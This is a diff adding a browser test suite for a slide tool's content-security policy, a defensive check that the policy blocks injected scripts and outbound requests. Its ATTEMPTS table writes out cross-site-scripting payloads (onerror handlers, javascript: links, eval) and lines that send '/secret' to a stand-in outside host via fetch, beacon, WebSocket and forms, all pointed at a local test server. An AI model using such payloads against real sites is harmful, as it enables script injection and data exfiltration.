@@ -1,0 +1,116 @@
+"""The page's content-security policy, tried: a script that got in can do nothing with the page's help."""
+
+import http.server
+import re
+import threading
+
+import pytest
+
+from slides import present
+from tests.waiting import until
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+
+ATTEMPTS = {
+    "inline script": "add('script', { textContent: 'window.broken = 1' })",
+    "script from elsewhere": "add('script', { src: '{elsewhere}/evil.js' })",
+    "data script": "add('script', { src: 'data:text/javascript,window.broken = 1' })",
+    "event handler": "into('<img src=x onerror=\"window.broken = 1\">')",
+    "javascript: link": "into('<a id=evil href=\"javascript:window.broken = 1\">x</a>'), click('#evil')",
+    "picture from elsewhere": "new Image().src = '{elsewhere}/pixel.gif'",
+    "style from elsewhere": "add('link', { rel: 'stylesheet', href: '{elsewhere}/evil.css' })",
+    "font from elsewhere": "new FontFace('x', 'url({elsewhere}/x.woff)').load().catch(() => {})",
+    "style's picture": "into('<p style=\"background: url({elsewhere}/pixel.gif)\">x</p>')",
+    "fetch": "fetch('{elsewhere}/secret').catch(() => {})",
+    "beacon": "navigator.sendBeacon('{elsewhere}/secret', 'x')",
+    "event source": "new EventSource('{elsewhere}/secret')",
+    "WebSocket": "try { new WebSocket('{elsewhere}/secret'.replace('http', 'ws')) } catch {}",
+    "form": "into('<form action=\"{elsewhere}/secret\"><button id=send>x</button></form>'), click('#send')",
+    "frame": "add('iframe', { src: '{elsewhere}/frame' })",
+    "frame with a script": "add('iframe', { srcdoc: '<script>parent.broken = 1<' + '/script>' })",
+    "object": "add('object', { data: '{elsewhere}/x.swf' })",
+    "worker": "try { new Worker('{elsewhere}/evil.js') } catch {}",
+    "manifest": "add('link', { rel: 'manifest', href: '{elsewhere}/x.json' })",
+    "media": "add('video', { src: '{elsewhere}/x.mp4', autoplay: true })",
+    "prefetch": "add('link', { rel: 'prefetch', href: '{elsewhere}/secret' })",
+    "base": "add('base', { href: '{elsewhere}/' })",
+    "eval": "try { eval('window.broken = 1') } catch {}",
+    "Function": "try { new Function('window.broken = 1')() } catch {}",
+    "timer of text": "setTimeout('window.broken = 1')",
+}
+# A browser without a window asks for no manifest; the framed page is told of its own breaches, not ours; a
+# worker from elsewhere is refused before any policy is asked.
+SILENT = {"manifest", "frame with a script", "worker"}
+HELPERS = """
+  window.violations = [];
+  document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective));
+  window.add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
+  window.click = (selector) => document.querySelector(selector).click();
+  window.into = (html) => document.body.insertAdjacentHTML('beforeend', html);
+"""
+
+
+@pytest.fixture(scope="module")
+def elsewhere():
+    """Another site, and what it was asked for."""
+    asked = []
+
+    class Site(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815 (http.server's name)
+
+        def log_message(self, *_):
+            """Say nothing."""
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site) as site:
+        thread = threading.Thread(target=site.serve_forever, daemon=True)
+        thread.start()
+        site.asked = asked
+        yield site
+        site.shutdown()
+        thread.join()
+
+
+@pytest.fixture(scope="module", params=["file", "served"])
+def address(request, talk_page):
+    if request.param == "file":
+        yield talk_page.as_uri()
+    else:
+        with present.server(talk_page) as server:
+            yield present.address(server)
+
+
+def test_every_way_in_or_out_is_shut(address, elsewhere, visit):
+    # What Playwright runs comes by DevTools, which the policy doesn't bind; what a timer then calls, it does.
+    page = visit().page
+    page.goto(address)
+    page.wait_for_selector("html[data-demos=ready]", state="attached")
+    page.evaluate(HELPERS)
+    site, unseen = f"http://127.0.0.1:{elsewhere.server_port}", []
+    for name, attempt in ATTEMPTS.items():
+        before = page.evaluate("window.violations.length")
+        page.evaluate(f"() => setTimeout(() => {{ {attempt.replace('{elsewhere}', site)} }})")
+        try:
+            until(page, f"window.violations.length > {before}", 0.1 if name in SILENT else 3)
+        except AssertionError:
+            unseen.append(name)
+        assert page.evaluate("window.broken") is None, name
+    assert set(unseen) <= SILENT
+    assert elsewhere.asked == []
+    assert page.url.startswith(address.split("?")[0]), "and the page is still there"
+
+
+def test_the_policy_itself_names_no_unsafe_script_and_no_other_address(talk_page):
+    text = talk_page.read_text(encoding="utf-8")
+    policy = re.search(r'<meta content="([^"]+)" http-equiv="Content-Security-Policy"', text)[1]
+    directives = dict(part.split(" ", 1) for part in policy.split("; "))
+    assert directives["default-src"] == "'none'"
+    assert directives["connect-src"] == "'self'"
+    assert directives["base-uri"] == directives["form-action"] == "'none'"
+    assert "unsafe" not in directives["script-src"]
+    assert "http" not in policy
+    assert "*" not in policy
